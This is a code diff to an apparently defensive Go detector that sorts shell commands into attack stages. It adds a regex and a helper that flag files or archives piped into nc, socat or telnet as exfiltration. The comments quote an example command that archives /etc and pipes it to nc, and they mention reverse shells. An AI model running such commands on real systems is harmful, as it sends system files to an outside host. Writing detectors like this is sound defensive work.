@@ -51,6 +51,12 @@ var (
 	// "nc -N", "nc -q 0", "ncat --send-only", "socat -u": data pushed out
 	// over a raw socket, typically a file on its stdin.
 	sendRE = regexp.MustCompile(`(^|[\s;|&(/])(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s+([^;|&]*\s)?(-[A-Za-z]*N|-q\s*[0-9]|--send-only)|(^|[\s;|&(/])socat\s+([^;|&]*\s)?-u\s`)
+	// feedRE: a file or archive fed into a raw socket — piped from cat,
+	// tar, gzip … into nc/socat/telnet, or redirected into nc's stdin:
+	// data going out, not a shell coming in (issue 14). A fifo or a shell
+	// in the pipe (the classic nc reverse shell) is a channel instead.
+	feedRE = regexp.MustCompile(`(^|[\s;|&(/])(cat|tar|gzip|bzip2|xz|zip|zcat|base64|xxd|dd)\s[^;|&]*\|\s*(\S*/)?(nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|cryptcat)\s|` +
+		`(^|[\s;|&(/])(nc|ncat|netcat|nc\.traditional|nc\.openbsd|socat|telnet|cryptcat)\s[^;|&]*<\s*[^\s&(<]`)
 	// tunnelRE (case-sensitive: ssh's -l and -n are other options): ssh
 	// told to forward ports (-R, -L, -D), a tun device (-w) or to run no
 	// command at all (-N), and the tunnelling tools. A tunnel opened from
@@ -79,6 +85,8 @@ func classify(cmd string) cmdClass {
 	case scanRE.MatchString(s):
 		return classScan
 	case sendRE.MatchString(cmd) || dnsExfilRE.MatchString(s):
+		return classExfilImpact
+	case feedRE.MatchString(s) && !channelRE.MatchString(s):
 		return classExfilImpact
 	case tunnelRE.MatchString(cmd):
 		return classTunnel
@@ -199,4 +207,20 @@ func place(in PlaceInput, c cmdClass) (Stage, string) {
 		}
 	}
 	return in.Default, "rule default"
+}
+
+// feedingShell returns the -c string of p's parent shell when it feeds a
+// file or archive into p's socket (`tar czf - /etc | nc host 443`): the
+// connect of nc shows only "nc host 443", the data going out is in the
+// shell's command.
+func feedingShell(p *parser.Process) (string, bool) {
+	if p == nil || p.Parent == nil {
+		return "", false
+	}
+	sc, ok := shellCommand(p.Parent.Exe, p.Parent.Args)
+	if !ok {
+		return "", false
+	}
+	low := strings.ToLower(sc)
+	return sc, feedRE.MatchString(low) && !channelRE.MatchString(low)
 }
